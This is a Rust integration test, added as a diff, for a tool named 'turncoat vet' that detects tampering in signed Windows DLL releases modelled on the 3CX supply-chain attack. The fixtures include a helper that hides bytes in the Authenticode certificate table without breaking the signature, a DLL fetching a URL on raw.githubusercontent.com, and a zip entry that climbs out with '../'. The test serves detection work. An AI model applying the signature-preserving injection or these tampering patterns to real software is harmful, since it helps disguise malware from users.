@@ -1,0 +1,350 @@
+//! `turncoat vet` end to end on real PE fixtures, built here: DLLs compiled
+//! with mingw-w64, a version resource from windres, signed by osslsigncode
+//! with a throwaway certificate from openssl; then tampered with the way
+//! the 3CX release was. Skipped with a printed reason when a tool is
+//! missing (`.ci/run` installs them).
+
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use serde_json::Value;
+
+fn have(tool: &str) -> bool {
+    Command::new("sh")
+        .args(["-c", &format!("command -v {tool}")])
+        .output()
+        .is_ok_and(|o| o.status.success())
+}
+
+fn run(cmd: &mut Command) {
+    let out = cmd.output().unwrap();
+    assert!(
+        out.status.success(),
+        "{cmd:?}: {}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+struct Fixtures {
+    dir: tempfile::TempDir,
+}
+
+impl Fixtures {
+    fn new() -> Option<Fixtures> {
+        for tool in [
+            "x86_64-w64-mingw32-gcc",
+            "x86_64-w64-mingw32-windres",
+            "osslsigncode",
+            "openssl",
+        ] {
+            if !have(tool) {
+                eprintln!("skipped: {tool} is not installed");
+                return None;
+            }
+        }
+        let f = Fixtures {
+            dir: tempfile::tempdir().unwrap(),
+        };
+        run(Command::new("openssl").current_dir(f.dir.path()).args([
+            "req",
+            "-x509",
+            "-newkey",
+            "rsa:2048",
+            "-nodes",
+            "-keyout",
+            "key.pem",
+            "-out",
+            "cert.pem",
+            "-days",
+            "2",
+            "-subj",
+            "/CN=Turncoat Test Signer",
+        ]));
+        Some(f)
+    }
+
+    fn path(&self, name: &str) -> PathBuf {
+        self.dir.path().join(name)
+    }
+
+    /// Compiles `source` into `name` with a version resource of `version`
+    /// (four numbers, comma-separated).
+    fn dll(&self, name: &str, source: &str, version: &str, libs: &[&str]) -> PathBuf {
+        let stem = name.trim_end_matches(".dll");
+        std::fs::write(self.path(&format!("{stem}.c")), source).unwrap();
+        let dotted = version.replace(',', ".");
+        std::fs::write(
+            self.path(&format!("{stem}.rc")),
+            format!("1 VERSIONINFO\nFILEVERSION {version}\nPRODUCTVERSION {version}\nBEGIN\n BLOCK \"StringFileInfo\"\n BEGIN\n  BLOCK \"040904b0\"\n  BEGIN\n   VALUE \"FileVersion\", \"{dotted}\"\n  END\n END\nEND\n"),
+        )
+        .unwrap();
+        run(Command::new("x86_64-w64-mingw32-windres")
+            .current_dir(self.dir.path())
+            .args([
+                &format!("{stem}.rc"),
+                "-O",
+                "coff",
+                "-o",
+                &format!("{stem}.res.o"),
+            ]));
+        let out = self.path(name);
+        let mut gcc = Command::new("x86_64-w64-mingw32-gcc");
+        gcc.current_dir(self.dir.path())
+            .args(["-shared", "-O1", "-s", "-o"])
+            .arg(&out)
+            .args([&format!("{stem}.c"), &format!("{stem}.res.o")]);
+        for l in libs {
+            gcc.arg(format!("-l{l}"));
+        }
+        run(&mut gcc);
+        out
+    }
+
+    /// Signs `file` in place.
+    fn sign(&self, file: &Path) {
+        let signed = file.with_extension("signed");
+        run(Command::new("osslsigncode")
+            .args(["sign", "-certs"])
+            .arg(self.path("cert.pem"))
+            .arg("-key")
+            .arg(self.path("key.pem"))
+            .args(["-h", "sha256", "-in"])
+            .arg(file)
+            .arg("-out")
+            .arg(&signed));
+        std::fs::rename(&signed, file).unwrap();
+    }
+}
+
+/// Appends `payload` inside the certificate table (the last thing in the
+/// file), growing the WIN_CERTIFICATE and the security directory to cover
+/// it: the signature still verifies, as in CVE-2013-3900.
+fn hide_in_certificate_table(file: &Path, payload: &[u8]) {
+    let mut pe = std::fs::read(file).unwrap();
+    let u32_at = |d: &[u8], o: usize| u32::from_le_bytes(d[o..o + 4].try_into().unwrap());
+    let nt = u32_at(&pe, 0x3c) as usize;
+    let optional = nt + 24;
+    assert_eq!(&pe[optional..optional + 2], &[0x0b, 0x02], "PE32+");
+    let security = optional + 112 + 4 * 8;
+    let (table, size) = (
+        u32_at(&pe, security) as usize,
+        u32_at(&pe, security + 4) as usize,
+    );
+    assert_eq!(
+        table + size,
+        pe.len(),
+        "the certificate table ends the file"
+    );
+    assert_eq!(payload.len() % 8, 0);
+    let grown = (size + payload.len()) as u32;
+    pe[security + 4..security + 8].copy_from_slice(&grown.to_le_bytes());
+    let entry = u32_at(&pe, table) + payload.len() as u32;
+    pe[table..table + 4].copy_from_slice(&entry.to_le_bytes());
+    pe.extend_from_slice(payload);
+    std::fs::write(file, pe).unwrap();
+}
+
+fn vet(args: &[&Path]) -> (Option<i32>, Value) {
+    let out = Command::new(env!("CARGO_BIN_EXE_turncoat"))
+        .arg("vet")
+        .args(args)
+        .args(["--format", "json"])
+        .output()
+        .unwrap();
+    let report = serde_json::from_slice(&out.stdout)
+        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
+    (out.status.code(), report)
+}
+
+fn ids_for<'a>(report: &'a Value, file_suffix: &str) -> Vec<&'a str> {
+    report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["file"].as_str().unwrap().ends_with(file_suffix))
+        .map(|f| f["id"].as_str().unwrap())
+        .collect()
+}
+
+const FFMPEG_1: &str = "__declspec(dllexport) int av_decode(int x) { return x * 3 + 1; }\n";
+const FFMPEG_2: &str = "#include <windows.h>\n#include <wininet.h>\n__declspec(dllexport) int av_decode(int x) { return x * 3 + 1; }\n__declspec(dllexport) int av_update(void) { HINTERNET h = InternetOpenA(\"Mozilla/5.0\", 0, 0, 0, 0); return InternetOpenUrlA(h, \"https://raw.githubusercontent.com/IconStorages/images/main/icon12.ico\", 0, 0, 0, 0) != 0; }\n";
+const D3D: &str = "__declspec(dllexport) int D3DCompile(int x) { return x + 47; }\n";
+const HELPER: &str = "__declspec(dllexport) int helper(int x) { return x - 1; }\n";
+
+#[test]
+fn a_release_pair_with_the_3cx_tampering_is_caught_and_a_clean_one_is_not() {
+    let Some(fx) = Fixtures::new() else { return };
+    let old = fx.path("old");
+    let new = fx.path("new");
+    for d in [&old, &new] {
+        std::fs::create_dir_all(d.join("app")).unwrap();
+    }
+    // The previous release: every module signed.
+    for (dir, ffmpeg) in [(&old, FFMPEG_1), (&new, FFMPEG_2)] {
+        let f = fx.dll(
+            "ffmpeg.dll",
+            ffmpeg,
+            "4,4,0,0",
+            if ffmpeg == FFMPEG_2 {
+                &["wininet"]
+            } else {
+                &[]
+            },
+        );
+        fx.sign(&f);
+        std::fs::rename(&f, dir.join("app/ffmpeg.dll")).unwrap();
+        let d3d = fx.dll("d3dcompiler_47.dll", D3D, "10,0,20348,1", &[]);
+        fx.sign(&d3d);
+        std::fs::rename(&d3d, dir.join("app/d3dcompiler_47.dll")).unwrap();
+    }
+    let helper = fx.dll("helper.dll", HELPER, "1,0,0,0", &[]);
+    fx.sign(&helper);
+    std::fs::copy(&helper, old.join("app/helper.dll")).unwrap();
+
+    // The old release alone is clean: signatures are informational.
+    let (code, report) = vet(&[&old]);
+    assert_eq!(report["verdict"], "clean", "{report:#}");
+    assert_eq!(code, Some(0));
+    assert!(ids_for(&report, "ffmpeg.dll").contains(&"info.signed"));
+    let signer = report["files"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["path"] == "app/ffmpeg.dll")
+        .unwrap()["signature"]["signer"]
+        .clone();
+    assert!(
+        signer.as_str().unwrap().contains("Turncoat Test Signer"),
+        "{signer}"
+    );
+
+    // The new release: a payload hidden after d3dcompiler's signature, an
+    // unsigned helper beside signed modules, ffmpeg's code changed under
+    // the same version.
+    hide_in_certificate_table(&new.join("app/d3dcompiler_47.dll"), &[0xfe; 4096]);
+    fx.dll("helper.dll", HELPER, "1,0,0,0", &[]);
+    std::fs::copy(fx.path("helper.dll"), new.join("app/helper.dll")).unwrap();
+    let (code, report) = vet(&[&new, Path::new("--against"), &old]);
+    assert_eq!(code, Some(1));
+    assert_eq!(report["verdict"], "malicious", "{report:#}");
+    let d3d = ids_for(&report, "d3dcompiler_47.dll");
+    assert!(
+        d3d.contains(&"authenticode.data-after-signature"),
+        "{d3d:?}"
+    );
+    assert!(
+        !d3d.contains(&"authenticode.digest-mismatch"),
+        "the digest still matches: {d3d:?}"
+    );
+    let ffmpeg = ids_for(&report, "ffmpeg.dll");
+    for id in [
+        "diff.changed-same-version",
+        "diff.new-imports",
+        "diff.new-network-strings",
+    ] {
+        assert!(ffmpeg.contains(&id), "{id}: {ffmpeg:?}");
+    }
+    let helper = ids_for(&report, "helper.dll");
+    assert!(
+        helper.contains(&"authenticode.unsigned-module"),
+        "{helper:?}"
+    );
+    assert!(
+        helper.contains(&"authenticode.signature-removed"),
+        "{helper:?}"
+    );
+    assert!(
+        report["findings"][0]["id"]
+            .as_str()
+            .unwrap()
+            .starts_with("diff.")
+            || report["findings"][0]["id"]
+                .as_str()
+                .unwrap()
+                .starts_with("authenticode."),
+        "the diff comes first"
+    );
+    let strings = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["id"] == "diff.new-network-strings")
+        .unwrap();
+    assert!(
+        strings["evidence"]
+            .to_string()
+            .contains("raw.githubusercontent.com/IconStorages"),
+        "{strings:#}"
+    );
+
+    // A byte of code changed after signing: the digest no longer matches.
+    let broken = fx.path("broken");
+    std::fs::create_dir_all(&broken).unwrap();
+    let mut pe = std::fs::read(old.join("app/helper.dll")).unwrap();
+    let text = {
+        let file = object_text_offset(&pe);
+        file + 16
+    };
+    pe[text] ^= 0xff;
+    std::fs::write(broken.join("helper.dll"), pe).unwrap();
+    let (_, report) = vet(&[&broken.join("helper.dll")]);
+    assert!(
+        ids_for(&report, "helper.dll").contains(&"authenticode.digest-mismatch"),
+        "{report:#}"
+    );
+}
+
+/// File offset of the first section's raw data (the code, in these DLLs).
+fn object_text_offset(pe: &[u8]) -> usize {
+    let u16_at = |o: usize| u16::from_le_bytes(pe[o..o + 2].try_into().unwrap()) as usize;
+    let u32_at = |o: usize| u32::from_le_bytes(pe[o..o + 4].try_into().unwrap()) as usize;
+    let nt = u32_at(0x3c);
+    let optional_size = u16_at(nt + 20);
+    let first_section = nt + 24 + optional_size;
+    u32_at(first_section + 20)
+}
+
+#[test]
+fn archives_are_unpacked_and_hostile_entries_reported() {
+    let Some(fx) = Fixtures::new() else { return };
+    let d3d = fx.dll("d3dcompiler_47.dll", D3D, "10,0,20348,1", &[]);
+    fx.sign(&d3d);
+    hide_in_certificate_table(&d3d, &[0x41; 64]);
+    // A zip (as a nupkg) holding the DLL, a tarball inside it, and an
+    // entry that climbs out.
+    let tgz = fx.path("inner.tgz");
+    run(Command::new("sh").current_dir(fx.dir.path()).args([
+        "-c",
+        "mkdir -p pkg && cp d3dcompiler_47.dll pkg/ && tar czf inner.tgz pkg",
+    ]));
+    let nupkg = fx.path("release.nupkg");
+    run(Command::new("python3").current_dir(fx.dir.path()).args(["-c", &format!(
+        "import zipfile\nz = zipfile.ZipFile('release.nupkg', 'w', zipfile.ZIP_DEFLATED)\nz.write('d3dcompiler_47.dll', 'lib/d3dcompiler_47.dll')\nz.write('{}', 'inner.tgz')\nz.writestr('../../evil.txt', 'x')\nz.close()\n",
+        tgz.display()
+    )]));
+    let (code, report) = vet(&[&nupkg]);
+    assert_eq!(code, Some(1));
+    let paths: Vec<&str> = report["files"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["path"].as_str().unwrap())
+        .collect();
+    assert!(
+        paths.contains(&"release.nupkg!/lib/d3dcompiler_47.dll"),
+        "{paths:?}"
+    );
+    assert!(
+        paths.contains(&"release.nupkg!/inner.tgz!/inner.tar!/pkg/d3dcompiler_47.dll"),
+        "{paths:?}"
+    );
+    let tampered = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["id"] == "authenticode.data-after-signature")
+        .count();
+    assert_eq!(tampered, 2, "found in the zip and in the tarball inside it");
+    assert!(ids_for(&report, "evil.txt").contains(&"archive.path-traversal"));
+}
